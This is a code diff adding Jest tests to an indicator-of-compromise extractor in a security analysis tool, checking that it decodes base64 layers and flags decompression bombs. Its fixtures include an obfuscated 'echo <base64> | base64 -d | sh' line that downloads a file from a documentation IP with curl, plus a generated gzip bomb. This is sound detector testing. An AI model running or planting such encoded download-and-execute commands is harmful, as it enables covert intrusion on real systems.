@@ -1,4 +1,5 @@
 import { afterAll, describe, expect, it } from '@jest/globals';
+import { gzipSync } from 'node:zlib';
 import { createWorkerPool } from '../../analysis/pool/worker-pool.js';
 import type { Finding } from '../../casebook/finding.js';
 import type { Value } from '../../data/table.js';
@@ -17,7 +18,7 @@ const world = (rows: readonly (readonly Value[])[], extra: Partial<TestWorld> = 
   tables: { procs: { columns: [{ name: 'TimeGenerated', type: 'datetime' }, { name: 'Line', type: 'string' }, { name: 'Extra', type: 'dynamic' }, { name: 'Pid', type: 'long' }], rows } },
 });
 const lines = (values: readonly string[], extra: Partial<TestWorld> = {}): TestWorld => world(values.map((value, at) => [`2026-01-0${(at % 9) + 1}T00:00:00Z`, value, null, at]), extra);
-const run = (input: Arg, of: TestWorld = { pool }, type = 'all'): Promise<Finding> => runSkill(ioc, { input, type: { kind: 'text', text: type } }, of);
+const run = (input: Arg, of: TestWorld = { pool }, type = 'all', decode = 'no'): Promise<Finding> => runSkill(ioc, { input, type: text(type), decode: text(decode) }, of);
 const rowsOf = ({ table: found }: Finding) => (found === undefined || 'ref' in found ? [] : found.rows);
 const columnsOf = ({ table: found }: Finding) => (found === undefined || 'ref' in found ? [] : found.columns.map(({ name }) => name));
 
@@ -47,7 +48,24 @@ describe('ioc', () => {
       ['url', 'http://203.0.113.9/x', 1, 'row 4', '2026-01-04T00:00:00Z', '2026-01-04T00:00:00Z'],
     ]);
     expect(finding.facts).toEqual([{ label: 'Values read', value: '3 distinct in 4 rows' }]);
+    expect(finding.next.map(({ say }) => say)).toEqual(['enrich #this.Value', 'ioc $procs.Line decode=yes', 'decode $procs.Line']);
+  });
+
+  it('looks inside of encodings, counts rows there, and gives the place of what was encoded', async () => {
+    const encoded = `sh -c "echo ${Buffer.from('curl http://203.0.113.9/x -o /tmp/x').toString('base64')} | base64 -d | sh"`;
+    const finding = await run(column, lines([encoded, 'ping 203.0.113.9', encoded, 'ping 198.51.100.7 203.0.113.9']), 'network', 'yes');
+    expect(rowsOf(finding).map((row) => [...row.slice(0, 4), ...row.slice(6)])).toEqual([
+      ['ipv4', '203.0.113.9', 4, 'layer 1 of row 1', 28, 15], ['ipv4', '198.51.100.7', 1, 'row 4', 5, 12], ['url', 'http://203.0.113.9/x', 2, 'layer 1 of row 1', 18, 28],
+    ]);
+    expect(finding.entities[0]).toEqual({ type: 'ip', value: '203.0.113.9', note: '4 times, first in layer 1 of row 1' });
     expect(finding.next.map(({ say }) => say)).toEqual(['enrich #this.Value', 'decode $procs.Line']);
+    const many = await run(column, lines(Array.from({ length: 600 }, (_, at) => `echo ${Buffer.from(`curl http://203.0.113.9/${at}`).toString('base64')}`)), 'url', 'yes');
+    expect(many.headline).toBe('600 indicators in $procs.Line: 600 URLs');
+  });
+
+  it('tells what it did not decode', async () => {
+    const bomb = gzipSync(Buffer.alloc(20_000_000, 'a')).toString('base64');
+    expect((await run(text(`x ${bomb}`), { pool }, 'all', 'yes')).notes).toEqual([expect.stringContaining('decompression bomb')]);
   });
 
   it('searches all text and dynamic columns of a table', async () => {
